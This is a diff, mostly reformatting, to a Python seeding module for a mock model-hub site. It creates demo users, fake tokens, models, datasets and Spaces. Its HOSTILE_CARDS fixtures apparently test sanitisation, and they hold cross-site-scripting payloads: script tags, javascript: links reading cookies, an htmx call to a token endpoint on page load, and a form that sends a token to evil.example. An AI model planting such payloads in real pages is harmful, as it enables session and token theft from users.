@@ -10,22 +10,33 @@ from __future__ import annotations
 
 import json
 import random
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 from .state import World
 from .vocab import DATASET_NAMES, LANGUAGES, LICENSES, PIPELINES, TASK_CATEGORIES
 
-START = datetime(2021, 3, 1, tzinfo=timezone.utc).timestamp()
-END = datetime(2026, 11, 1, tzinfo=timezone.utc).timestamp()
+START = datetime(2021, 3, 1, tzinfo=UTC).timestamp()
+END = datetime(2026, 11, 1, tzinfo=UTC).timestamp()
 
 USERS = [
     # name, fullname, orgs, tokens
-    ("alice", "Alice Martin", {"acme": "admin", "datalab": "write"},
-     {"hf_demo_alice_write": "write", "hf_demo_alice_read": "read",
-      "hf_demo_alice_fine": {"role": "fineGrained", "displayName": "acme-ci",
-                             "scoped": [{"entity": {"type": "org", "name": "acme"},
-                                         "permissions": ["repo.content.read", "repo.write"]}],
-                             "global": ["discussion.write"]}}),
+    (
+        "alice",
+        "Alice Martin",
+        {"acme": "admin", "datalab": "write"},
+        {
+            "hf_demo_alice_write": "write",
+            "hf_demo_alice_read": "read",
+            "hf_demo_alice_fine": {
+                "role": "fineGrained",
+                "displayName": "acme-ci",
+                "scoped": [
+                    {"entity": {"type": "org", "name": "acme"}, "permissions": ["repo.content.read", "repo.write"]}
+                ],
+                "global": ["discussion.write"],
+            },
+        },
+    ),
     ("bob", "Bob Nakamura", {"acme": "write"}, {"hf_demo_bob_write": "write"}),
     ("carol", "Carol Diaz", {"acme": "read", "datalab": "admin"}, {"hf_demo_carol_read": "read"}),
     ("dave", "Dave Okafor", {"acme": "contributor"}, {"hf_demo_dave_write": "write"}),
@@ -54,25 +65,66 @@ ARCHS = {
     "reinforcement-learning": ("ppo", "stable-baselines3", ["ppo", "dqn", "a2c"]),
 }
 SIZES = ["tiny", "mini", "small", "base", "medium", "large", "xl", "1b", "3b", "7b"]
-FLAVOURS = ["sentiment", "news", "legal", "medical", "finance", "chat", "instruct", "code", "multilingual",
-            "squad", "imdb", "v2", "distilled", "quantized", "finetuned", "lora"]
-DATASET_THEMES = ["reviews", "news", "dialogues", "receipts", "tweets", "wiki", "patents", "recipes", "code",
-                  "speech", "images", "invoices", "questions", "translations", "emails", "captions"]
+FLAVOURS = [
+    "sentiment",
+    "news",
+    "legal",
+    "medical",
+    "finance",
+    "chat",
+    "instruct",
+    "code",
+    "multilingual",
+    "squad",
+    "imdb",
+    "v2",
+    "distilled",
+    "quantized",
+    "finetuned",
+    "lora",
+]
+DATASET_THEMES = [
+    "reviews",
+    "news",
+    "dialogues",
+    "receipts",
+    "tweets",
+    "wiki",
+    "patents",
+    "recipes",
+    "code",
+    "speech",
+    "images",
+    "invoices",
+    "questions",
+    "translations",
+    "emails",
+    "captions",
+]
 SPACE_THEMES = ["demo", "playground", "leaderboard", "chat", "explorer", "arena", "viewer", "studio"]
 
 HOSTILE_CARDS = [
-    ("mallory/friendly-model", "model",
-     "# Friendly model\n\n<script>document.title='pwned'</script>\n\n"
-     "[Read the docs](javascript:alert(document.cookie))\n\n"
-     "<div hx-get=\"/account/token/\" hx-trigger=\"load\" hx-target=\"body\">loading…</div>\n\n"
-     "<img src=\"x\" onerror=\"alert(1)\">\n"),
-    ("mallory/helpful-dataset", "dataset",
-     "# Helpful dataset\n\n<iframe src=\"https://evil.example/\"></iframe>\n\n"
-     "<a href=\"javascript:fetch('/account/')\" hx-post=\"/account/token/delete/\">click me</a>\n\n"
-     "<style>body{display:none}</style>\n"),
-    ("mallory/shiny-space", "space",
-     "# Shiny space\n\n<form action=\"https://evil.example/steal\"><input name=\"token\"></form>\n\n"
-     "<svg onload=\"alert(1)\"></svg> <span hx-on:click=\"alert(1)\">hover</span>\n"),
+    (
+        "mallory/friendly-model",
+        "model",
+        "# Friendly model\n\n<script>document.title='pwned'</script>\n\n"
+        "[Read the docs](javascript:alert(document.cookie))\n\n"
+        '<div hx-get="/account/token/" hx-trigger="load" hx-target="body">loading…</div>\n\n'
+        '<img src="x" onerror="alert(1)">\n',
+    ),
+    (
+        "mallory/helpful-dataset",
+        "dataset",
+        '# Helpful dataset\n\n<iframe src="https://evil.example/"></iframe>\n\n'
+        '<a href="javascript:fetch(\'/account/\')" hx-post="/account/token/delete/">click me</a>\n\n'
+        "<style>body{display:none}</style>\n",
+    ),
+    (
+        "mallory/shiny-space",
+        "space",
+        '# Shiny space\n\n<form action="https://evil.example/steal"><input name="token"></form>\n\n'
+        '<svg onload="alert(1)"></svg> <span hx-on:click="alert(1)">hover</span>\n',
+    ),
 ]
 
 
@@ -110,7 +162,7 @@ def demo(world: World) -> None:
 
     def popularity() -> tuple[int, int, int]:
         downloads = int(rng.lognormvariate(7, 2.5))
-        return downloads, int(downloads ** 0.5 * rng.uniform(0.05, 0.6)), rng.randint(0, 120)
+        return downloads, int(downloads**0.5 * rng.uniform(0.05, 0.6)), rng.randint(0, 120)
 
     def private_for(owner: str) -> bool:
         return owner in ("acme", "datalab", "alice", "bob") and rng.random() < 0.3
@@ -129,14 +181,18 @@ def demo(world: World) -> None:
             "language": languages,
             "library_name": library,
             "pipeline_tag": pipeline,
-            "tags": rng.sample(["exbert", "endpoints_compatible", "conversational", "lora", "text-generation-inference"],
-                               rng.randint(0, 2)),
+            "tags": rng.sample(
+                ["exbert", "endpoints_compatible", "conversational", "lora", "text-generation-inference"],
+                rng.randint(0, 2),
+            ),
             "datasets": rng.sample(DATASET_NAMES, rng.randint(0, 2)),
         }
-        body = (f"# {repo_id.split('/')[1]}\n\nA {arch} model for {PIPELINES[pipeline][0].lower()}, "
-                f"trained by {owner}.\n\n## Usage\n\n```python\nfrom {library.replace('-', '_')} import pipeline\n```\n\n"
-                "| metric | value |\n|---|---|\n"
-                f"| accuracy | {rng.uniform(0.7, 0.99):.3f} |\n")
+        body = (
+            f"# {repo_id.split('/')[1]}\n\nA {arch} model for {PIPELINES[pipeline][0].lower()}, "
+            f"trained by {owner}.\n\n## Usage\n\n```python\nfrom {library.replace('-', '_')} import pipeline\n```\n\n"
+            "| metric | value |\n|---|---|\n"
+            f"| accuracy | {rng.uniform(0.7, 0.99):.3f} |\n"
+        )
         weight = {"size": rng.choice([200_000, 1_500_000, 6_000_000, 24_000_000, 60_000_000]), "seed": repo_id}
         files: dict[str, object] = {
             "README.md": _card(meta, body),
@@ -147,18 +203,30 @@ def demo(world: World) -> None:
             files["tokenizer.json"] = json.dumps({"version": "1.0", "model": {"type": "BPE"}})
         gated = rng.choice(["manual", "auto"]) if rng.random() < 0.06 else False
         world.create_repo(
-            "model", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
-            downloads=downloads, downloads_all_time=downloads * rng.randint(2, 12), likes=likes,
-            trending_score=trending, pipeline_tag=pipeline, library_name=library,
+            "model",
+            repo_id,
+            private=private_for(owner),
+            created_at=created,
+            modified_at=modified,
+            files=files,
+            downloads=downloads,
+            downloads_all_time=downloads * rng.randint(2, 12),
+            likes=likes,
+            trending_score=trending,
+            pipeline_tag=pipeline,
+            library_name=library,
             extra_tags=["pytorch", "safetensors", model_type] if library == "transformers" else ["safetensors"],
             config={"architectures": [f"{arch.title()}Model"], "model_type": model_type},
-            gated=gated, created_by=owner,
+            gated=gated,
+            created_by=owner,
         )
 
     for _ in range(80):
         owner = rng.choice(owners)
         theme = rng.choice(DATASET_THEMES)
-        repo_id = unique("dataset", owner, f"{theme}-{rng.choice(['en', 'multi', '2024', '2025', 'clean', 'v1', 'mini'])}")
+        repo_id = unique(
+            "dataset", owner, f"{theme}-{rng.choice(['en', 'multi', '2024', '2025', 'clean', 'v1', 'mini'])}"
+        )
         created, modified = when()
         downloads, likes, trending = popularity()
         meta = {
@@ -174,10 +242,19 @@ def demo(world: World) -> None:
             "data/test-00000-of-00001.parquet": {"size": rng.choice([10_000, 200_000]), "seed": repo_id + "/test"},
         }
         world.create_repo(
-            "dataset", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
-            downloads=downloads, downloads_all_time=downloads * 3, likes=likes, trending_score=trending,
+            "dataset",
+            repo_id,
+            private=private_for(owner),
+            created_at=created,
+            modified_at=modified,
+            files=files,
+            downloads=downloads,
+            downloads_all_time=downloads * 3,
+            likes=likes,
+            trending_score=trending,
             extra_tags=["format:parquet", "modality:text", "library:datasets"],
-            gated="auto" if rng.random() < 0.05 else False, created_by=owner,
+            gated="auto" if rng.random() < 0.05 else False,
+            created_by=owner,
             description=f"A dataset of {theme}.",
         )
 
@@ -187,12 +264,22 @@ def demo(world: World) -> None:
         repo_id = unique("space", owner, f"{rng.choice(DATASET_THEMES)}-{rng.choice(SPACE_THEMES)}")
         created, modified = when()
         _, likes, trending = popularity()
-        readme = _card({"title": repo_id.split("/")[1], "emoji": "🚀", "sdk": sdk, "license": "mit"},
-                       f"# {repo_id.split('/')[1]}\n\nA {sdk} Space.\n")
+        readme = _card(
+            {"title": repo_id.split("/")[1], "emoji": "🚀", "sdk": sdk, "license": "mit"},
+            f"# {repo_id.split('/')[1]}\n\nA {sdk} Space.\n",
+        )
         files = {"README.md": readme, "app.py": "import gradio as gr\n", "requirements.txt": "gradio\n"}
         world.create_repo(
-            "space", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
-            likes=likes, trending_score=trending, sdk=sdk, created_by=owner,
+            "space",
+            repo_id,
+            private=private_for(owner),
+            created_at=created,
+            modified_at=modified,
+            files=files,
+            likes=likes,
+            trending_score=trending,
+            sdk=sdk,
+            created_by=owner,
         )
 
     for repo_id, repo_type, text in HOSTILE_CARDS:
@@ -200,16 +287,38 @@ def demo(world: World) -> None:
         meta = {"license": "mit", "tags": ["demo"]}
         if repo_type == "space":
             meta["sdk"] = "static"
-        world.create_repo(repo_type, repo_id, created_at=created, modified_at=modified,
-                          files={"README.md": _card(meta, text)}, sdk="static" if repo_type == "space" else None,
-                          created_by="mallory", likes=1)
+        world.create_repo(
+            repo_type,
+            repo_id,
+            created_at=created,
+            modified_at=modified,
+            files={"README.md": _card(meta, text)},
+            sdk="static" if repo_type == "space" else None,
+            created_by="mallory",
+            likes=1,
+        )
 
     # A few fixed repos that documentation and tests can name.
-    world.create_repo("model", "acme/gated-llm", gated="manual", pipeline_tag="text-generation",
-                      library_name="transformers", created_by="alice",
-                      files={"README.md": _card({"license": "llama3", "pipeline_tag": "text-generation"},
-                                                "# Gated LLM\n\nAsk for access.\n"),
-                             "model.safetensors": {"size": 3_000_000, "seed": "gated"}})
-    world.create_repo("model", "acme/internal-classifier", private=True, pipeline_tag="text-classification",
-                      library_name="transformers", created_by="bob",
-                      files={"README.md": _card({"license": "other"}, "# Internal classifier\n")})
+    world.create_repo(
+        "model",
+        "acme/gated-llm",
+        gated="manual",
+        pipeline_tag="text-generation",
+        library_name="transformers",
+        created_by="alice",
+        files={
+            "README.md": _card(
+                {"license": "llama3", "pipeline_tag": "text-generation"}, "# Gated LLM\n\nAsk for access.\n"
+            ),
+            "model.safetensors": {"size": 3_000_000, "seed": "gated"},
+        },
+    )
+    world.create_repo(
+        "model",
+        "acme/internal-classifier",
+        private=True,
+        pipeline_tag="text-classification",
+        library_name="transformers",
+        created_by="bob",
+        files={"README.md": _card({"license": "other"}, "# Internal classifier\n")},
+    )
